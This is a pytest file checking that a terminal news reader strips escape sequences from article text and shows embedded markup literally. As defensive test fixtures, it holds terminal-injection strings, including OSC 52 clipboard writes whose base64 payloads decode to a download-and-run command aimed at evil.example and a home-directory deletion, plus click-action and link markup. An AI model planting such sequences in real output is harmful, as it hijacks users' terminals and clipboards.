"""Untrusted article text: escape sequences stripped on load, markup shown literally in the app."""

from __future__ import annotations

import html
import json
import re
from pathlib import Path

import pytest

from index.base.models import Article
from index.ingest.loader import load_corpus
from index.store.corpus_index import CorpusIndex
from tests.pilot import settle
from tui_reader.app import NewsReaderApp
from tui_reader.screens.reader import ReaderScreen

# Each sequence hides a payload that must vanish with it; the visible word after it stays.
ESCAPES = {
    "csi colour": "\x1b[1;31m",
    "csi clear screen": "\x1b[2J\x1b[H",
    "csi private mode": "\x1b[?1049h",
    "osc 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "osc 52 st": "\x1b]52;p;cm0gLXJmIH4=\x1b\\",
    "osc 8 link": "\x1b]8;;https://evil.example/x\x1b\\",
    "osc title": "\x1b]0;pwned-title\x07",
    "dcs": "\x1bPq#0;2;0;0;0payload\x1b\\",
    "esc reset": "\x1bc",  # ESC + one character is a sequence: both go, as a terminal reads it
    "esc save cursor": "\x1b7",
    "esc charset": "\x1b(0",
    "bel": "\x07",
    "c1 csi": "\x9b31m",
    "backspace": "\x08\x08",
}
PAYLOADS = ("Y3VybCBl", "cm0gLXJm", "evil.example", "pwned-title", "payload", "1049h")
CELL_WIDTH = 12.2  # pixels per column in Textual's SVG screenshots
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _hostile(word: str) -> str:
    """``word`` with every escape sequence in front of one copy of it."""
    return " ".join(f"{seq}{word}{n}" for n, seq in enumerate(ESCAPES.values()))


def _check(text: str | None, word: str | None = None) -> None:
    assert text is not None
    assert not FORBIDDEN.search(text), repr(text)
    for payload in PAYLOADS:
        assert payload not in text, (payload, text)
    if word is not None:  # the visible text around each sequence survives
        for n in range(len(ESCAPES)):
            assert f"{word}{n}" in text, (word, n, text)


def _write_formats(root: Path) -> None:
    title, body, source = _hostile("Head"), _hostile("Body"), _hostile("Desk")
    (root / "plain.txt").write_text(f"{title}\n\n{body} ends here.\n", encoding="utf-8")
    (root / "front.md").write_text(
        f'---\ntitle: "{title}"\nsource: "{source}"\nauthor: "{source}"\n---\n\n'
        f"# {title}\n\n{body} ends *here*.\n",
        encoding="utf-8",
    )
    obj = {
        "title": title,
        "body": f"{body} ends here.",
        "source": source,
        "author": source,
        "url": f"https://news.example/{ESCAPES['osc 8 link']}a",
    }
    # json.dumps writes every control character as a \\u escape: the loader must decode and strip
    (root / "one.json").write_text(json.dumps(obj), encoding="utf-8")
    (root / "many.jsonl").write_text(json.dumps(obj, ensure_ascii=False) + "\n", encoding="utf-8")


def _check_article(article: Article) -> None:
    _check(article.title, "Head")
    _check(article.body, "Body")
    for field in (article.source, article.author, article.url):
        if field is not None:
            _check(field)


def test_escape_sequences_stripped_on_load_in_every_format(tmp_path: Path) -> None:
    _write_formats(tmp_path)
    articles, skipped = load_corpus(tmp_path)
    assert skipped == []
    assert sorted(a.id for a in articles) == ["front.md", "many.jsonl#0", "one.json", "plain.txt"]
    for article in articles:
        _check_article(article)
    by_id = {a.id: a for a in articles}
    for art_id in ("front.md", "one.json"):
        _check(by_id[art_id].source, "Desk")
    assert by_id["one.json"].url == "https://news.example/a"


def test_stored_and_searched_text_has_no_escapes(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    _write_formats(corpus)
    with CorpusIndex(corpus, tmp_path / "ix") as index:
        index.update()
        for article in index.articles():
            _check_article(article)
        results = index.search("ends")
        assert results.total == 4
        for hit in results.hits:
            _check(hit.title)
            _check(hit.snippet)


def test_bare_esc_at_a_line_end_goes_alone(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("Before After\x1b\n\nBody \x1b\ntext.\x1b", encoding="utf-8")
    (article,), _ = load_corpus(tmp_path)
    assert (article.title, article.body) == ("Before After", "Body text.")


@pytest.mark.parametrize("sequence", list(ESCAPES.values()), ids=list(ESCAPES))
def test_each_sequence_alone_in_a_title(tmp_path: Path, sequence: str) -> None:
    (tmp_path / "a.txt").write_text(f"Before{sequence}After\n\nBody text.\n", encoding="utf-8")
    (article,), _ = load_corpus(tmp_path)
    _check(article.title)
    assert article.title.startswith("Before") and article.title.endswith("After")


MARKUP = (
    "[bold red]alarm[/bold red]",
    "[link=https://evil.example/steal]Click me[/link]",
    "[@click=app.quit]Quit now[/]",
    "[/]",
    "[b]",
    "[red on white]",
    ":warning:",
)


def _markup_corpus(root: Path) -> Path:
    corpus = root / "corpus"
    corpus.mkdir()
    body = "\n\n".join(f"Line {n} of the report carries {m} in it." for n, m in enumerate(MARKUP))
    (corpus / "markup.md").write_text(
        '---\ntitle: "Harbour [bold]strike[/] [@click=app.quit]ends[/]"\n'
        'source: "[link=https://evil.example]Desk[/link]"\n---\n\n' + body + "\n",
        encoding="utf-8",
    )
    (corpus / "other.md").write_text(
        "---\ntitle: Orchid show opens\nsource: Valley Times\n---\n\nGrowers filled the hall.\n",
        encoding="utf-8",
    )
    return corpus


def _screen_text(app: NewsReaderApp) -> str:
    svg = app.export_screenshot()
    runs = re.findall(r"<text[^>]*>(.*?)</text>", svg)
    return "".join(html.unescape(r).replace("\xa0", " ") for r in runs)


def _action_cells(app: NewsReaderApp) -> list[tuple[int, int]]:
    """Screen cells (x, y) of the words inside "[@click=...]" and "[link=...]" on screen."""
    svg = app.export_screenshot()
    cells = []
    pattern = r'<text[^>]* x="([\d.]+)"[^>]*line-(\d+)\)">([^<]*)</text>'
    for x, line, raw in re.findall(pattern, svg):
        text = html.unescape(raw)
        for m in re.finditer(r"\[(?:@click|link)=[^\]]*\]", text):
            cells.append((round(float(x) / CELL_WIDTH) + m.end(), int(line)))
    return cells


async def test_markup_in_an_article_is_shown_literally_and_never_acted_on(tmp_path: Path) -> None:
    app = NewsReaderApp(_markup_corpus(tmp_path), index_dir=tmp_path / "ix")
    async with app.run_test(size=(200, 50)) as pilot:
        await settle(app, pilot)
        await pilot.press("A")  # the articles list
        await settle(app, pilot)
        listing = _screen_text(app)
        assert "Harbour [bold]strike[/] [@click=app.quit]ends[/]" in listing
        assert "[link=https://evil.example]Desk[/link]" in listing
        await pilot.press("enter")  # read the first article (sorted: markup.md)
        await settle(app, pilot)
        assert isinstance(app.screen, ReaderScreen)
        text = _screen_text(app)
        for piece in MARKUP:
            assert piece in text, piece
        # Click right on each would-be link and action: parsed markup would quit or navigate.
        cells = _action_cells(app)
        assert len(cells) >= 4  # title, source, and the two body lines
        for cell in cells:
            await pilot.click(offset=cell)
        await pilot.pause()
        assert app.is_running
        assert isinstance(app.screen, ReaderScreen)
